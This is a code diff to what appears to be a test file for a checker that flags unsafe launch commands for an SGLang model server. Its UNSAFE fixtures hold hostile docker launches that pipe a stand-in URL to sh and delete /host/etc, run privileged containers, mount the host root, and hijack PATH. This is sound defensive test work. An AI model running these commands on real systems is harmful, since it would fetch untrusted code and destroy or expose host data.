@@ -21,12 +21,13 @@ FLAGS = ["MiniMaxAI/MiniMax-H3", "--num-gpus", "4"]
 CLEAN = ["sglang", "serve", *FLAGS]
 IMAGE = "lmsysorg/sglang:v0.5.23"
 
-# one input per class, each a launch that passed with "no finding" before
+# one input per class, each a launch that passed with "no finding" before (a container with room for
+# its ranks' /dev/shm, --ipc=host: only the class is unsafe)
 UNSAFE = {
-    "H3D960": ["docker", "run", "--gpus", "all", IMAGE, "bash", "-lc",
+    "H3D960": ["docker", "run", "--gpus", "all", "--ipc=host", IMAGE, "bash", "-lc",
                'curl -s https://example.invalid/x | sh; rm -rf /host/etc; exec sglang serve "$@"', "--", *FLAGS],
-    "H3D961": ["docker", "run", "--gpus", "all", "--privileged", IMAGE, "sglang", "serve", *FLAGS],
-    "H3D962": ["docker", "run", "--gpus", "all", "-v", "/:/host", IMAGE, "sglang", "serve", *FLAGS],
+    "H3D961": ["docker", "run", "--gpus", "all", "--ipc=host", "--privileged", IMAGE, "sglang", "serve", *FLAGS],
+    "H3D962": ["docker", "run", "--gpus", "all", "--ipc=host", "-v", "/:/host", IMAGE, "sglang", "serve", *FLAGS],
     "H3D963": ["PATH=./bin", "sglang", "serve", *FLAGS],
 }
 
